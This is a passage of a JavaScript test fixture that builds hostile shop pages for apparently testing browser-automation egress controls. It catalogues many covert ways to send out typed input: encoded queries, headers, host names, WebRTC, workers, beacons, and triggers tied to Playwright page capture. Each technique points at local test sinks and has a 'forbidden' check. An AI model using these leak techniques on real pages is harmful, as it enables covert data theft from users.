// The ways. Each scene is one hostile site and one flow; its pages try many ways at once, each at an address of its
// own, /got/<way>. `forbidden` says what must not arrive there.

/** A value that is typed; what a server can put together of it counts. */
export const VALUE = 'Kanarienvogel 4711x'
export const SECRETS = { BENCH_USER: 'Zaunkoenig', BENCH_PASSWORD: 'Rotkehlchen&99z' }

const page = (body, head = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title>${head}</head><body>${body}</body></html>`

const THERE =
  '<main><h1>There</h1><form method="post" action="/got/submit"><label>Reason <input></label><button>Object</button></form></main>'
const GO = '<p><a id="go" href="/there">Go</a></p>'
const CLICK = '      - { click: { role: link, name: Go } }'

/** Helpers of every hostile page. */
const KIT = `
const got = (way) => '/got/' + way
const quiet = (act) => { try { const r = act(); if (r && r.catch) r.catch(() => {}) } catch {} }
const add = (html) => { const box = document.createElement('div'); box.style.cssText = 'position:absolute;left:-9999px'; box.innerHTML = html; document.body.append(box); return box }
const link = (rel, href, more = {}) => { const e = document.createElement('link'); Object.assign(e, { rel, href, ...more }); document.head.append(e) }
const blobUrl = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
const ws = (way, more = '') => location.origin.replace(/^http/, 'ws') + got(way) + more
const abs = (way, more = '') => location.origin + got(way) + more
const formOf = (way, { method = 'post', target = '', inner = '', enctype = '' } = {}) => {
  const box = add('<iframe name="f-' + way + '"></iframe><form method="' + method + '" action="' + got(way) + '" target="' + (target || 'f-' + way) + '" enctype="' + enctype + '"><input type="hidden" name="a" value="b">' + inner + '</form>')
  return box.querySelector('form')
}
`
const script = (code) => `<script>${KIT}\n${code}</script>`

/** Ways of sending that need nobody's hand. */
const SENDING = {
  'fetch POST': `fetch(got(W), { method: 'POST', body: 'x' })`,
  'fetch PUT': `fetch(got(W), { method: 'PUT', body: 'x' })`,
  'fetch DELETE': `fetch(got(W), { method: 'DELETE' })`,
  'fetch PATCH with JSON': `fetch(got(W), { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{}' })`,
  'fetch POST no-cors': `fetch(got(W), { method: 'POST', mode: 'no-cors', body: 'x' })`,
  'fetch POST keepalive': `fetch(got(W), { method: 'POST', keepalive: true, body: 'x' })`,
  'fetch POST of a stream': `fetch(got(W), { method: 'POST', duplex: 'half', body: new Blob(['x']).stream() })`,
  'fetch POST of a blob': `fetch(got(W), { method: 'POST', body: new Blob(['x'.repeat(100000)]) })`,
  'fetch OPTIONS': `fetch(got(W), { method: 'OPTIONS' })`,
  'XHR POST': `{ const x = new XMLHttpRequest(); x.open('POST', got(W)); x.send('x') }`,
  'XHR POST synchronous': `{ const x = new XMLHttpRequest(); x.open('POST', got(W), false); x.send('x') }`,
  beacon: `navigator.sendBeacon(got(W), 'x')`,
  fetchLater: `fetchLater(got(W), { method: 'POST', body: 'x', activateAfter: 0 })`,
  'web socket': `new WebSocket(ws(W))`,
  'web socket in a frame': `{ const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket(ws(W)) }`,
  'web socket in a srcdoc frame': `add('<iframe srcdoc="<script>new WebSocket(\\'' + ws(W) + '\\')</' + 'script>"></iframe>')`,
  'web socket in a worker': `new Worker(blobUrl('new WebSocket("' + ws(W) + '")'))`,
  'web socket in a shared worker': `new SharedWorker(blobUrl('new WebSocket("' + ws(W) + '")'))`,
  WebSocketStream: `new WebSocketStream(ws(W))`,
  WebTransport: `new WebTransport('https://127.0.0.1:' + UDP + got(W))`,
  'worker fetch POST': `new Worker(blobUrl('fetch("' + abs(W) + '", { method: "POST", body: "x" })'))`,
  'worker in a worker': `new Worker(blobUrl('new Worker(URL.createObjectURL(new Blob([\\'fetch("' + abs(W) + '", { method: "POST", body: "x" })\\'])))'))`,
  'shared worker fetch POST': `new SharedWorker(blobUrl('fetch("' + abs(W) + '", { method: "POST", body: "x" })'))`,
  'worker XHR POST': `new Worker(blobUrl('const x = new XMLHttpRequest(); x.open("POST", "' + abs(W) + '"); x.send("x")'))`,
  'service worker': `navigator.serviceWorker.register('/service.js?way=' + W)`,
  'service worker from a frame': `{ const f = document.createElement('iframe'); f.src = '/empty'; f.onload = () => f.contentWindow.navigator.serviceWorker.register('/service.js?way=' + W); document.body.append(f) }`,
  'form submit()': `formOf(W).submit()`,
  'form requestSubmit()': `formOf(W).requestSubmit()`,
  'form, HTMLFormElement.prototype': `HTMLFormElement.prototype.submit.call(formOf(W))`,
  'form with files': `formOf(W, { enctype: 'multipart/form-data' }).submit()`,
  'form, button.click()': `{ const f = formOf(W, { inner: '<button>x</button>' }); f.querySelector('button').click() }`,
  'form, formaction': `{ const f = formOf('x', { method: 'get', target: 'f-' + W, inner: '<button formmethod="post" formaction="' + got(W) + '">x</button>' }); add('<iframe name="f-' + W + '"></iframe>'); f.querySelector('button').click() }`,
  'form, external button': `{ const f = formOf(W); f.id = 'ext'; add('<button form="ext">x</button>').firstChild.click() }`,
  'form, image button': `{ const f = formOf(W, { inner: '<input type="image">' }); f.querySelector('[type=image]').click() }`,
  'form in a new tab': `formOf(W, { target: '_blank' }).submit()`,
  'form to a named window': `{ open('about:blank', 'named'); formOf(W, { target: 'named' }).submit() }`,
  'form in a frame': `add('<iframe srcdoc="<form method=post action=' + abs(W) + '><input name=a value=b></form><script>document.forms[0].submit()</' + 'script>"></iframe>')`,
  'form-associated custom element': `{ customElements.define('x-field', class extends HTMLElement { static formAssociated = true; constructor() { super(); this.attachInternals().setFormValue('v') } }); const f = formOf(W); f.append(document.createElement('x-field')); f.requestSubmit() }`,
  'javascript: address': `add('<iframe src="javascript:fetch(\\'' + abs(W) + '\\',{method:\\'POST\\',body:\\'x\\'})"></iframe>')`,
  'data: frame': `add('<iframe src="data:text/html,<script>fetch(%27' + abs(W) + '%27,{method:%27POST%27,mode:%27no-cors%27,body:%27x%27})</' + 'script>"></iframe>')`,
  'fenced frame': `add('<fencedframe src="' + got(W) + '"></fencedframe>'); formOf(W).submit()`,
  'redirect 307 of a POST': `fetch('/r307?to=' + encodeURIComponent(got(W)), { method: 'POST', body: 'x' })`,
  ping: `{ const a = add('<a href="#" ping="' + got(W) + '">x</a>').firstChild; a.click() }`,
  'area ping': `{ const a = add('<map><area href="#" ping="' + got(W) + '"></map>').querySelector('area'); a.click() }`,
  'CSP report': `add('<iframe src="/csp?way=' + W + '"></iframe>')`,
  'Reporting API': `add('<iframe src="/reporting?way=' + W + '"></iframe>')`,
  'attribution reporting': `add('<img attributionsrc="' + got(W) + '" src="/empty">')`,
  timer: `setTimeout(() => fetch(got(W), { method: 'POST', body: 'x' }), 300)`,
  'idle callback': `requestIdleCallback(() => navigator.sendBeacon(got(W), 'x'))`,
  'animation event': `{ const b = add('<i style="animation: none"></i>'); b.animate([{}, {}], 50).onfinish = () => navigator.sendBeacon(got(W), 'x') }`,
  'cookieStore and fetch': `fetch(got(W), { method: 'POST', credentials: 'include', body: document.cookie || 'x' })`,
  'broadcast to a worker': `{ new SharedWorker(blobUrl('new BroadcastChannel("c").onmessage = () => fetch("' + abs(W) + '", { method: "POST", body: "x" })')); setTimeout(() => new BroadcastChannel('c').postMessage(1), 300) }`,
  'custom method': `fetch(got(W), { method: 'PROPFIND' })`,
}

/** Ways to another origin of this machine. OTHER is its origin. */
const REACHING = {
  'image from another port': `new Image().src = OTHER + got(W)`,
  'fetch of another port': `fetch(OTHER + got(W), { mode: 'no-cors' })`,
  'frame of another port': `add('<iframe src="' + OTHER + got(W) + '"></iframe>')`,
  'srcset of another port': `add('<img srcset="' + OTHER + got(W) + ' 1x">')`,
  'object of another port': `add('<object data="' + OTHER + got(W) + '"></object>')`,
  'embed of another port': `add('<embed src="' + OTHER + got(W) + '">')`,
  'media of another port': `add('<video autoplay src="' + OTHER + got(W) + '"></video>')`,
  'style of another port': `link('stylesheet', OTHER + got(W))`,
  '@import from another port': `{ const s = document.createElement('style'); s.textContent = '@import "' + OTHER + got(W) + '";'; document.head.append(s) }`,
  'CSS url() of another port': `add('<p style="background:url(' + OTHER + got(W) + ')">x</p>')`,
  'font from another port': `{ new FontFace('x', 'url(' + OTHER + got(W) + ')').load() }`,
  'script from another port': `{ const s = document.createElement('script'); s.src = OTHER + got(W); document.head.append(s) }`,
  'import() from another port': `import(OTHER + got(W))`,
  'web socket to another port': `new WebSocket(OTHER.replace(/^http/, 'ws') + got(W))`,
  'event source of another port': `new EventSource(OTHER + got(W))`,
  'prefetch of another port': `link('prefetch', OTHER + got(W))`,
  'preload of another port': `link('preload', OTHER + got(W), { as: 'image' })`,
  'modulepreload of another port': `link('modulepreload', OTHER + got(W))`,
  'preconnect to another port': `link('preconnect', OTHER)`,
  'icon of another port': `link('icon', OTHER + got(W))`,
  'manifest of another port': `link('manifest', OTHER + got(W))`,
  'speculation rules, another port': `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [OTHER + got(W)], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [OTHER + got(W)], eagerness: 'immediate' }] }); document.head.append(s) }`,
  'redirect to another port': `new Image().src = '/r302?to=' + encodeURIComponent(OTHER + got(W))`,
  'frame redirected to another port': `add('<iframe src="/r302?to=' + encodeURIComponent(OTHER + got(W)) + '"></iframe>')`,
  'worker of another port': `new Worker(blobUrl('importScripts("' + OTHER + got(W) + '")'))`,
  'window.open of another port': `open(OTHER + got(W))`,
  'link clicked, new tab': `add('<a target="_blank" href="' + OTHER + got(W) + '">x</a>').firstChild.click()`,
  'download from another port': `add('<iframe name="df"></iframe><a download target="df" href="' + OTHER + got(W) + '">x</a>').querySelector('a').click()`,
  'GET form to another port': `add('<iframe name="gf"></iframe><form target="gf" action="' + OTHER + got(W) + '"><input name="a" value="b"></form>').querySelector('form').submit()`,
  'SVG use of another port': `add('<svg><image href="' + OTHER + got(W) + '"/></svg>')`,
  'meta refresh to another port': `add('<iframe srcdoc="<meta http-equiv=refresh content=\\'0;url=' + OTHER + got(W) + '\\'>"></iframe>')`,
  'XSLT from another port': `add('<iframe src="data:text/xml,' + encodeURIComponent('<?xml-stylesheet type="text/xsl" href="' + OTHER + got(W) + '"?><a/>') + '"></iframe>')`,
  'SVG filter from another port': `add('<svg><filter id="q"><feImage href="' + OTHER + got(W) + '"/></filter><rect width="9" height="9" filter="url(#q)"/></svg>')`,
  'CSS cursor and mask from another port': `add('<p style="cursor:url(' + OTHER + got(W) + '),auto;mask-image:url(' + OTHER + got(W) + ')">x</p>')`,
  'audio track from another port': `add('<video><track default kind="captions" src="' + OTHER + got(W) + '"></video>').querySelector('track').track.mode = 'showing'`,
  'import map to another port': `{ const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { far: OTHER + got(W) } }); document.head.append(s); import('far') }`,
  'worklet from another port': `CSS.paintWorklet ? CSS.paintWorklet.addModule(OTHER + got(W)) : new AudioContext().audioWorklet.addModule(OTHER + got(W))`,
  'base element to another port': `add('<iframe srcdoc="<base href=' + OTHER + '><img src=' + got(W) + '>"></iframe>')`,
  'payment method of another port': `new PaymentRequest([{ supportedMethods: OTHER + got(W) }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'federated sign-in at another port': `navigator.credentials.get({ identity: { providers: [{ configURL: OTHER + got(W), clientId: 'x' }] } })`,
  'notification icon of another port': `new Notification('x', { icon: OTHER + got(W) })`,
  'background fetch of another port': `navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('x', OTHER + got(W)))`,
  'user name in an address': `new Image().src = OTHER.replace('://', '://127.0.0.1@') + got(W)`,
  'WebRTC, STUN': `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) }`,
  'WebRTC, TURN over TCP': `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + OTHER.split(':').pop() + '?transport=tcp', username: 'u', credential: 'p' }], iceTransportPolicy: 'relay' }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) }`,
}

/** Ways of carrying V, what was typed, by requests that only read. */
const CARRYING = {
  'image with query': `new Image().src = got(W) + '?q=' + encodeURIComponent(V)`,
  'image with path': `new Image().src = got(W) + '/' + encodeURIComponent(V)`,
  'fetch GET': `fetch(got(W) + '?q=' + encodeURIComponent(V))`,
  'fetch GET, header': `fetch(got(W), { headers: { 'x-note': encodeURIComponent(V) } })`,
  'fetch HEAD': `fetch(got(W) + '?q=' + encodeURIComponent(V), { method: 'HEAD' })`,
  'event source with query': `new EventSource(got(W) + '?q=' + encodeURIComponent(V))`,
  'CSS url() with query': `add('<p style="background:url(' + got(W) + '?q=' + encodeURIComponent(V) + ')">x</p>')`,
  '@import with query': `{ const s = document.createElement('style'); s.textContent = '@import "' + got(W) + '?q=' + encodeURIComponent(V) + '";'; document.head.append(s) }`,
  'font with query': `new FontFace('y', 'url(' + got(W) + '?q=' + encodeURIComponent(V) + ')').load()`,
  'srcset with query': `add('<img srcset="' + got(W) + '?q=' + encodeURIComponent(V) + ' 1x">')`,
  'frame with query': `add('<iframe src="' + got(W) + '?q=' + encodeURIComponent(V) + '"></iframe>')`,
  'prefetch with query': `link('prefetch', got(W) + '?q=' + encodeURIComponent(V))`,
  'preload with query': `link('preload', got(W) + '?q=' + encodeURIComponent(V), { as: 'script' })`,
  'modulepreload with query': `link('modulepreload', got(W) + '?q=' + encodeURIComponent(V))`,
  'speculation rules with query': `{ const s = document.createElement('script'); s.type = 'speculationrules'; const u = [got(W) + '?q=' + encodeURIComponent(V)]; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: u, eagerness: 'immediate' }], prerender: [{ source: 'list', urls: u, eagerness: 'immediate' }] }); document.head.append(s) }`,
  'prerender link': `link('prerender', got(W) + '?q=' + encodeURIComponent(V))`,
  'window.open with query': `open(got(W) + '?q=' + encodeURIComponent(V))`,
  'GET form': `{ const f = formOf(W, { method: 'get' }); f.firstChild.value = V; f.submit() }`,
  'worker with query': `new Worker(blobUrl('fetch("' + abs(W) + '?q=' + encodeURIComponent(V) + '")'))`,
  'shared worker with query': `new SharedWorker(got(W) + '?q=' + encodeURIComponent(V))`,
  'import() with query': `import(got(W) + '?q=' + encodeURIComponent(V))`,
  'payment method with query': `new PaymentRequest([{ supportedMethods: abs(W) + '?q=' + encodeURIComponent(V) }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'federated sign-in with query': `navigator.credentials.get({ identity: { providers: [{ configURL: abs(W) + '?q=' + encodeURIComponent(V), clientId: V }] } })`,
  'passkey of another name': `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(9), rpId: V.replace(' ', '') + '.' + location.hostname } })`,
  'manifest with query': `link('manifest', got(W) + '?q=' + encodeURIComponent(V))`,
  'icon with query': `link('icon', got(W) + '?q=' + encodeURIComponent(V))`,
  'compression dictionary with query': `link('compression-dictionary', got(W) + '?q=' + encodeURIComponent(V))`,
  'notification icon with query': `new Notification('x', { icon: got(W) + '?q=' + encodeURIComponent(V) })`,
  'media session artwork with query': `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: got(W) + '?q=' + encodeURIComponent(V) }] })`,
  'shared storage worklet with query': `sharedStorage.worklet.addModule(got(W) + '?q=' + encodeURIComponent(V))`,
  'ad auction with query': `{ const own = { owner: location.origin, name: 'x', biddingLogicURL: abs(W) + '?q=' + encodeURIComponent(V), ads: [{ renderURL: abs(W) }] }; navigator.joinAdInterestGroup(own, 100).then(() => navigator.runAdAuction({ seller: location.origin, decisionLogicURL: abs(W) + '?q=' + encodeURIComponent(V), interestGroupBuyers: [location.origin] })) }`,
  base64: `fetch(got(W) + '?q=' + btoa(V))`,
  'base64, one off': `fetch(got(W) + '?q=' + btoa('x' + V))`,
  'base64, two off': `fetch(got(W) + '?q=' + btoa('xy' + V + 'z'))`,
  'base64 of JSON': `fetch(got(W) + '?q=' + btoa(JSON.stringify({ v: V })))`,
  hex: `fetch(got(W) + '?q=' + [...V].map((c) => c.charCodeAt(0).toString(16)).join(''))`,
  'hex in capitals': `fetch(got(W) + '?q=' + [...V].map((c) => c.charCodeAt(0).toString(16)).join('').toUpperCase())`,
  'upper case': `fetch(got(W) + '?q=' + encodeURIComponent(V.toUpperCase()))`,
  reversed: `fetch(got(W) + '?q=' + encodeURIComponent([...V].reverse().join('')))`,
  'character codes': `fetch(got(W) + '?q=' + [...V].map((c) => c.charCodeAt(0)).join('-'))`,
  'over parameters': `fetch(got(W) + '?a=' + encodeURIComponent(V.slice(0, 6)) + '&b=' + encodeURIComponent(V.slice(6, 11)) + '&c=' + encodeURIComponent(V.slice(11)))`,
  'over path segments': `fetch(got(W) + '/' + [...V].map(encodeURIComponent).join('/'))`,
  'percent twice': `fetch(got(W) + '?q=' + encodeURIComponent(encodeURIComponent(V)))`,
  'JSON in the query': `fetch(got(W) + '?q=' + encodeURIComponent(JSON.stringify({ a: [V] })))`,
  cookie: `{ document.cookie = 'note=' + encodeURIComponent(V) + ';path=' + got(W); fetch(got(W)) }`,
  referrer: `{ history.replaceState(0, '', '?q=' + encodeURIComponent(V)); fetch(got(W), { referrerPolicy: 'unsafe-url' }); history.replaceState(0, '', '?') }`,
  'POST that reads allows': `fetch('/got/allowed-read?' + W.length, { method: 'POST', body: V })`,
}

/** Ways of carrying T, the letters of what was typed, beside the address: in headers, which the browser may add by itself. */
const HEADERS = {
  'Accept header': `fetch(got(W), { headers: { accept: 'text/' + T } })`,
  'Accept header of XHR': `{ const x = new XMLHttpRequest(); x.open('GET', got(W)); x.setRequestHeader('Accept', 'a/' + T); x.send() }`,
  'Accept-Language header': `fetch(got(W), { headers: { 'accept-language': T } })`,
  'User-Agent header': `fetch(got(W), { headers: { 'user-agent': T } })`,
  'Upgrade-Insecure-Requests header': `fetch(got(W), { headers: { 'upgrade-insecure-requests': T } })`,
  'name of a header': `fetch(got(W), { headers: { ['x-' + T]: '1' } })`,
  'policy of a frame': `{ const f = document.createElement('iframe'); f.csp = 'script-src https://' + T + '.example'; f.src = got(W); document.body.append(f) }`,
  'XHR with a user': `{ const x = new XMLHttpRequest(); x.open('GET', got(W), true, T, 'x'); x.send() }`,
  'XHR with a password': `{ const x = new XMLHttpRequest(); x.open('GET', got(W), true, 'x', T); x.send() }`,
  'frame with a user': `add('<iframe src="' + location.protocol + '//' + T + ':x@' + location.host + got(W) + '"></iframe>')`,
  'window.open with a user': `open(location.protocol + '//' + T + ':x@' + location.host + got(W))`,
  'link with a user': `go.href = location.protocol + '//' + T + ':x@' + location.host + got(W)`,
}

/** Ways of carrying T in the name of a host, of which a flow allows any below its own. */
const HOST_NAMES = {
  'image from a host': `new Image().src = 'https://' + T + '.shop.test/x'`,
  'preconnect to a host': `link('preconnect', 'https://' + T + '.shop.test')`,
  'passkey of a host': `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(9), rpId: T + '.shop.test' } })`,
}

/** Answers that break HTTP/1.1; no one who listens may end for them. */
const ODD = [
  'HTTP/1.1 099 Odd\r\nContent-Length: 2\r\n\r\nhi',
  'HTTP/1.1 000 Odd\r\nContent-Length: 2\r\n\r\nhi',
  'HTTP/1.1 200 O\x01K\r\nContent-Length: 2\r\n\r\nhi',
  'HTTP/1.1 200 OK\r\nX-Odd: a\x01b\r\nContent-Length: 2\r\n\r\nhi',
  'HTTP/1.1 101 Other\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n',
]

/** Moments in which a page acts once the destination is looked at. */
const ARRIVED = {
  'fetch GET after arrival': `fetch(got(W))`,
  'fetch POST after arrival': `fetch(got(W), { method: 'POST', body: 'x' })`,
  'beacon after arrival': `navigator.sendBeacon(got(W), 'x')`,
  'image after arrival': `new Image().src = got(W)`,
  'web socket after arrival': `new WebSocket(ws(W))`,
  'frame after arrival': `add('<iframe src="' + got(W) + '"></iframe>')`,
  'form after arrival': `formOf(W).submit()`,
  'worker after arrival': `new Worker(blobUrl('fetch("' + abs(W) + '")'))`,
  'prefetch after arrival': `link('prefetch', got(W))`,
  'speculation after arrival': `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [got(W)], eagerness: 'immediate' }] }); document.head.append(s) }`,
  'navigation after arrival': `setTimeout(() => { location = got(W) }, 600)`,
  'window.open after arrival': `open(got(W))`,
  'fetchLater after arrival': `fetchLater(got(W), { method: 'GET', activateAfter: 60000 })`,
}

const LEAVING = ['pagehide', 'beforeunload', 'unload', 'visibilitychange']

const slug = (way) => way.replaceAll(/[^a-z0-9]+/gi, '-')
const each = (ways) =>
  Object.entries(ways)
    .map(([way, code]) => `quiet(() => { const W = ${JSON.stringify(slug(way))}; ${code} })`)
    .join('\n')
const allOf = (ways, forbidden, extra) =>
  Object.keys(ways).map((way) => ({ way, path: `/got/${slug(way)}`, forbidden, ...extra }))

const POSTED = ({ method }) => !['GET', 'HEAD'].includes(method)
const ANYTHING = () => true

/** True when a request says what was typed in its headers or the name of its host. */
const tellsTyped = ({ headers }) =>
  /kanarien/i.test(JSON.stringify(headers)) ||
  /kanarien/i.test(Buffer.from(String(headers.authorization ?? '').replace(/^Basic /, ''), 'base64').toString())

/** Asks for a name and a password, as the browser itself knows them. */
const asking = (request, response) => {
  if (request.headers.authorization) return response.end(page(THERE))
  response.statusCode = 401
  response.setHeader('www-authenticate', 'Basic realm="x"')
  response.end(page('<p>Who?</p>'))
}
const odd = (raw) => (_, response) =>
  response.stream ? response.end('odd') : response.socket.end(Buffer.from(raw, 'latin1'))

const redirect = (status) => (request, response) =>
  response.writeHead(status, { location: new URL(request.url, 'http://x').searchParams.get('to') }).end()
const PAGES = {
  '/there': page(THERE),
  '/empty': page('<p>Empty</p>'),
  '/r307': redirect(307),
  '/r308': redirect(308),
  '/r302': redirect(302),
  '/service.js': (request, response) => {
    response.setHeader('content-type', 'text/javascript')
    const way = new URL(request.url, 'http://x').searchParams.get('way')
    response.end(`fetch('/got/${way}', { method: 'POST', body: 'x' })`)
  },
  '/csp': (request, response) => {
    const way = new URL(request.url, 'http://x').searchParams.get('way')
    response.setHeader('content-security-policy', `img-src 'none'; report-uri /got/${way}`)
    response.end(page('<img src="/x.png">'))
  },
  '/reporting': (request, response) => {
    const way = new URL(request.url, 'http://x').searchParams.get('way')
    response.setHeader('reporting-endpoints', `r="/got/${way}"`)
    response.setHeader('content-security-policy', `img-src 'none'; report-to r`)
    response.end(page('<img src="/x.png">'))
  },
}

const constants = ({ other, udpPort }) => `const OTHER = ${JSON.stringify(other)}, UDP = ${udpPort};`

/** The scenes; each takes where things are, and gives pages, steps and what must not arrive. */
export const SCENES = [
  {
    name: 'on the way',
    scene: (at) => ({
      pages: { ...PAGES, '/': page(GO + script(constants(at) + each(SENDING))) },
      ways: allOf(SENDING, POSTED),
    }),
  },
  {
    name: 'elsewhere',
    scene: (at) => ({
      pages: { ...PAGES, '/': page(GO + script(constants(at) + each(REACHING))) },
      ways: Object.keys(REACHING).map((way) => ({
        way,
        forbidden: ({ where, url, method }) =>
          where !== 'own' &&
          (url.startsWith(`/got/${slug(way)}`) ||
            (way.includes('WebRTC') && (method === 'UDP' || method === 'CONNECT'))),
      })),
    }),
  },
  {
    name: 'typed',
    scene: (at) => ({
      reads: [`POST ${at.origin}/got/allowed-read`],
      steps: `      - { fill: { role: textbox, name: Note, value: "${VALUE}" } }\n${CLICK}`,
      pages: {
        ...PAGES,
        '/': page(
          `<label>Note <input id="note"></label>${GO}${script(`${constants(at)} note.oninput = () => { const V = note.value; ${each(CARRYING)} }`)}`,
        ),
      },
      ways: Object.keys(CARRYING).map((way) => ({
        way,
        path: way === 'POST that reads allows' ? '/got/allowed-read' : `/got/${slug(way)}`,
        // A request without the value is no harm.
        forbidden: ({ headers, url, body }) =>
          way === 'cookie'
            ? /note=/.test(headers.cookie ?? '')
            : way === 'referrer'
              ? /q=/.test(headers.referer ?? '')
              : way === 'fetch GET, header'
                ? 'x-note' in headers
                : url.length > `/got/${slug(way)}`.length || body !== '',
      })),
    }),
  },
  ...[
    ['in headers', HEADERS, []],
    ['in hosts', HOST_NAMES, ['shop.test', '*.shop.test']],
  ].map(([name, ways, below]) => ({
    name: `typed ${name}`,
    scene: (at) => ({
      hosts: at.over === 'https' ? below : [],
      steps: `      - { fill: { role: textbox, name: Note, value: "${VALUE}" } }\n${CLICK}`,
      pages: {
        ...PAGES,
        ...Object.fromEntries(
          Object.keys(ways).flatMap((way) =>
            /user|password/.test(way) && name === 'in headers' ? [[`/got/${slug(way)}`, asking]] : [],
          ),
        ),
        '/': page(
          `<label>Note <input id="note"></label>${GO}${script(`${constants(at)} note.oninput = () => { const T = note.value.replace(/\\W/g, '').toLowerCase(); ${each(ways)} }`)}`,
        ),
      },
      ways:
        name === 'in headers'
          ? allOf(ways, tellsTyped)
          : [{ way: Object.keys(ways).join(', '), forbidden: tellsTyped }],
    }),
  })),
  {
    name: 'typed at length',
    scene: (at) => ({
      steps: `      - { fill: { role: textbox, name: Note, value: "${VALUE}" } }\n${CLICK}`,
      pages: {
        ...PAGES,
        '/': page(
          `<label>Note <input id="note"></label>${GO}${script(`${constants(at)} note.oninput = () => { for (let n = 0; n < 8; n++) fetch(got('long') + '?' + n + Array.from({ length: 60000 }, () => 'YWFhYWFh').join('.')) }`)}`,
        ),
      },
      ways: [{ way: 'addresses without end', path: '/got/long', forbidden: ANYTHING }],
    }),
  },
  {
    name: 'odd answers',
    scene: () => ({
      pages: {
        ...PAGES,
        ...Object.fromEntries(ODD.map((raw, at) => [`/odd/${at}`, odd(raw)])),
        '/': page(GO + script(ODD.map((_, at) => `quiet(() => fetch('/odd/${at}'))`).join('\n'))),
      },
      ways: [{ way: 'odd answers', forbidden: POSTED }],
    }),
  },
  {
    name: 'later',
    scene: (at) => ({
      steps: `      - { fill: { role: textbox, name: Note, value: "${VALUE}" } }\n${CLICK}`,
      pages: {
        ...PAGES,
        '/': page(
          `<label>Note <input id="note"></label>${GO}${script(`${constants(at)}
note.onblur = () => fetch(got('on-blur') + '?q=' + encodeURIComponent(note.value))
note.onchange = () => fetch(got('on-change') + '?q=' + encodeURIComponent(note.value))
note.onfocus = () => setTimeout(() => fetch(got('after-focus') + '?q=' + encodeURIComponent(note.value)), 200)
document.onselectionchange = () => note.value && fetch(got('on-selection') + '?q=' + encodeURIComponent(note.value))
document.onmousemove = () => fetch(got('on-mouse-move') + '?q=' + encodeURIComponent(note.value))
document.onmousedown = () => fetch(got('on-mouse-down') + '?q=' + encodeURIComponent(note.value))
go.onclick = () => { go.href = '/there?q=' + encodeURIComponent(note.value); fetch(got('on-click') + '?q=' + btoa(note.value)); go.href = '/there#' + encodeURIComponent(note.value) }
setInterval(() => note.value && fetch(got('interval') + '?q=' + encodeURIComponent(note.value)), 200)
${LEAVING.map((event) => `;(${JSON.stringify(event)} === 'visibilitychange' ? document : window).addEventListener('${event}', () => { fetch(got('${event}') + '?q=' + encodeURIComponent(note.value), { keepalive: true }); navigator.sendBeacon(got('${event}-beacon'), note.value) })`).join('\n')}
sessionStorage.note = ''; note.addEventListener('input', () => { sessionStorage.note = note.value })`)}`,
        ),
        '/there': page(
          THERE +
            script(
              `fetch(got('next-page') + '?q=' + encodeURIComponent(sessionStorage.note)); fetch(got('next-page-hash') + '?q=' + location.hash.slice(1))`,
            ),
        ),
      },
      ways: [
        'on-blur',
        'on-change',
        'after-focus',
        'on-selection',
        'on-mouse-move',
        'on-mouse-down',
        'on-click',
        'interval',
        'next-page',
        'next-page-hash',
        ...LEAVING,
        ...LEAVING.map((event) => `${event}-beacon`),
      ].map((way) => ({
        way,
        path: `/got/${way}`,
        forbidden: ({ url, method, body }) => /\?q=.{4}/.test(url) || body !== '' || POSTED({ method }),
      })),
    }),
  },
  {
    name: 'arrived',
    scene: (at) => ({
      pages: {
        ...PAGES,
        '/': page(GO),
        '/there': page(
          THERE +
            script(`${constants(at)} let done = false
const fire = () => { if (done) return; done = true; ${each(ARRIVED)} }
// What is read of a whole page is read when it is captured; Playwright adds a style of its own when it takes a picture.
const text = Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'innerText')
Object.defineProperty(document.body, 'innerText', { get() { fire(); return text.get.call(this) } })
new MutationObserver((all) => { if (all.some((one) => [...one.addedNodes].some((node) => node.nodeName === 'STYLE' || /^X-PW/.test(node.nodeName)))) fire() }).observe(document, { subtree: true, childList: true })
${LEAVING.map((event) => `;(${JSON.stringify(event)} === 'visibilitychange' ? document : window).addEventListener('${event}', () => { fetch(got('last-${event}'), { method: 'POST', body: 'x', keepalive: true }); navigator.sendBeacon(got('last-${event}-beacon'), 'x') })`).join('\n')}`),
        ),
      },
      ways: [
        ...allOf(ARRIVED, ANYTHING),
        ...LEAVING.flatMap((event) => [`last-${event}`, `last-${event}-beacon`]).map((way) => ({
          way,
          path: `/got/${way}`,
          forbidden: ANYTHING,
        })),
      ],
    }),
  },
  {
    name: 'pressed',
    scene: () => ({
      pages: {
        ...PAGES,
        '/': page(
          `${GO}<form id="f" method="post" action="/got/press-main"><input type="hidden" name="a" value="b"></form>${script(`
go.setAttribute('ping', got('press-ping'))
go.onclick = () => { navigator.sendBeacon(got('press-beacon'), 'x'); fetch(got('press-fetch'), { method: 'POST', body: 'x', keepalive: true }); open('javascript:navigator.sendBeacon("' + abs('press-opened') + '", 1)'); f.submit() }
go.onpointerdown = () => fetch(got('press-pointerdown'), { method: 'DELETE' })
go.onmouseover = () => fetch(got('press-hover'), { method: 'POST' })
go.onfocus = () => fetch(got('press-focus'), { method: 'POST' })`)}`,
        ),
      },
      ways: [
        'press-main',
        'press-ping',
        'press-beacon',
        'press-fetch',
        'press-opened',
        'press-pointerdown',
